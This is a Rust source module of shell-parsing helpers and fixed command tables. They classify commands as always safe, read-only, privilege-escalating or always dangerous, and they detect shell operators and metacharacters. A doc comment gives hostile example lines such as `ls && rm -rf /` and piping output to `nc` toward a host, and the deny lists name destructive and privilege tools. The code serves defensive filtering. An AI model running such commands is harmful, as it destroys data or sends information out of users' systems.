//! Shell lexical helpers and the fixed command tables shared by the router,
//! fast-path cache, and builtin handler.

use memchr::memchr3;

/// Operators that turn a single command into a composite one.
///
/// Even a read-only command becomes dangerous when chained, piped, or redirected:
/// `ls && rm -rf /`, `pwd | nc host 1234`, `git status > /etc/cron.d/x`.
pub const SHELL_OPERATORS: &[&str] = &["&&", "||", "$(", ">>", "<<", "|", ">", "<", ";", "&", "`"];

/// Single bytes that trigger shell interpretation when an argument is passed
/// through a shell: chaining, pipes, redirection, globbing, expansion.
const META_BYTES: &[u8] = b";&|<>`$*?[]{}~\n\r\\!()";

/// Commands that are always dangerous regardless of their arguments.
pub const ALWAYS_DANGEROUS: &[&str] = &[
    "rm",
    "rmdir",
    "dd",
    "mkfs",
    "mke2fs",
    "fdisk",
    "sfdisk",
    "parted",
    "shred",
    "wipefs",
    "chmod",
    "chown",
    "chgrp",
    "sudo",
    "su",
    "doas",
    "kill",
    "killall",
    "pkill",
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    "systemctl",
    "service",
    "iptables",
    "ip6tables",
    "nft",
    "ufw",
    "firewall-cmd",
    "launchctl",
    "crontab",
    "mount",
    "umount",
];

/// Commands that escalate privileges.
pub const PRIVILEGE_ESCALATION: &[&str] = &["sudo", "su", "doas", "pkexec", "runuser"];

/// Shell builtins that mutate interpreter-local state or only make sense inside
/// the interpreter.
pub const BUILTINS: &[&str] = &[
    "cd", "pushd", "popd", "dirs", "pwd", "echo", "printf", "true", "false", "test", "[", "type",
    "alias", "unalias", "export", "unset", "set", "hash", "umask", "ulimit", "history", "jobs",
    "fg", "bg", "wait", "read", "shift", "exit", "return", "local", "declare", "readonly",
    "let", "shopt", "times", "help",
];

/// Builtins that execute arbitrary shell code and therefore never shortcut.
pub const CODE_EXECUTING_BUILTINS: &[&str] = &["eval", "source", ".", "exec", "command", "builtin"];

/// Commands whose invocation is safe regardless of (clean) arguments.
pub const ALWAYS_SAFE: &[&str] = &[
    "pwd", "whoami", "id", "date", "cal", "uptime", "hostname", "uname", "ls", "ll", "la", "tree",
    "echo", "true", "false", "which", "whereis", "groups", "tty", "nproc", "arch",
];

/// Commands that only read, subject to argument refinement.
pub const READ_ONLY: &[&str] = &[
    "cat", "head", "tail", "less", "more", "wc", "grep", "egrep", "fgrep", "rg", "find", "file",
    "stat", "du", "df", "sort", "uniq", "diff", "cut", "tr", "basename", "dirname", "realpath",
    "readlink", "tar", "git", "ps", "sed", "md5sum", "sha256sum", "cmp", "column", "nl",
];

/// Read-only git subcommands.
pub const GIT_READ_SUBCOMMANDS: &[&str] = &[
    "status",
    "log",
    "diff",
    "show",
    "branch",
    "tag",
    "remote",
    "blame",
    "shortlog",
    "describe",
    "rev-parse",
    "ls-files",
    "reflog",
];

/// `find` actions that execute, delete, or write.
pub const FIND_UNSAFE_ACTIONS: &[&str] = &[
    "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
];

/// Bare options that enable writing on otherwise read-only tools.
pub const WRITE_ENABLING_OPTIONS: &[&str] = &[
    "-o",
    "--output",
    "-i",
    "--in-place",
    "-w",
    "--write",
    "-delete",
    "--delete",
    "-exec",
    "-execdir",
];

/// True when any argument contains a byte that a shell would interpret.
#[must_use]
pub fn has_metacharacters(args: &[String]) -> bool {
    args.iter().any(|arg| arg_has_metacharacters(arg))
}

/// True when a single argument contains a shell metacharacter.
#[must_use]
pub fn arg_has_metacharacters(arg: &str) -> bool {
    let bytes = arg.as_bytes();
    // Quick reject on the most common chain bytes before the full scan.
    if memchr3(b';', b'|', b'&', bytes).is_some() {
        return true;
    }
    bytes.iter().any(|b| META_BYTES.contains(b))
}

/// True when a full command line contains a chaining/pipe/redirect operator.
#[must_use]
pub fn has_shell_operator(line: &str) -> bool {
    SHELL_OPERATORS.iter().any(|op| line.contains(op))
}

/// Strip any directory prefix: `/usr/bin/rm` → `rm`.
#[must_use]
pub fn base_name(command: &str) -> &str {
    command.rsplit('/').next().unwrap_or(command)
}

/// True when `base` is `mkfs` or one of its `mkfs.<fs>` variants.
#[must_use]
pub fn is_mkfs_variant(base: &str) -> bool {
    base == "mkfs" || base.starts_with("mkfs.")
}

/// Join command and args into a display line (single-quoting args that need it).
#[must_use]
pub fn display_line(command: &str, args: &[String]) -> String {
    let mut line = command.to_string();
    for arg in args {
        line.push(' ');
        if arg.is_empty() || arg.chars().any(|c| c.is_whitespace() || c == '\'' || c == '"') {
            line.push('\'');
            line.push_str(&arg.replace('\'', "'\\''"));
            line.push('\'');
        } else {
            line.push_str(arg);
        }
    }
    line
}
